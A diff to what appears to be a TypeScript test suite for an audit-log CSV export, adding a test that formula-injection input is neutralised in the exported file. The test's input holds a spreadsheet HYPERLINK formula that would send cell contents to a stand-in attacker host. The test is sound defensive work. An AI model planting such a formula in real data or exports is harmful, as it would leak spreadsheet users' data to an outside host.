@@ -410,6 +410,21 @@ test('groups and incidents leave what people set of them', async () => {
 });
 
 describe('the file', () => {
+  test('holds no formula for a spreadsheet that takes semicolons, and its JSON is what was changed', async () => {
+    const api = await openEngineHarness();
+    const name = 'x;=HYPERLINK("https://evil.example?"&A1);\t+1\n@a';
+    await api.call(api.alice, 'POST', GROUPS, {
+      name: name.replace(/[\t\n]/g, ' '),
+      description: name,
+    });
+    const { text } = await api.call(api.alice, 'GET', `${LOG}?format=csv`);
+    for (const delimiter of [',', ';', '\t', '|'])
+      for (const cell of text.split(/\r?\n/).flatMap((line) => line.split(delimiter)))
+        expect(cell).not.toMatch(/^[\s"]*[=+@]/);
+    const [, record] = parseCsv(text);
+    expect(JSON.parse(record!.at(-1)!)).toMatchObject({ description: name });
+  });
+
   const HEAD =
     'id,created_at,action,actor_id,actor,via,token_name,ip_address,target_type,target_id,target_name,before,after';
 
@@ -457,7 +472,8 @@ describe('the file', () => {
       String(entry.target.id),
       "'=1+2",
       '',
-      JSON.stringify(entry.after),
+      // The same to programs.
+      JSON.stringify(entry.after).replace('"=1+2"', String.raw`"\u003d1+2"`),
     ]);
   });
 
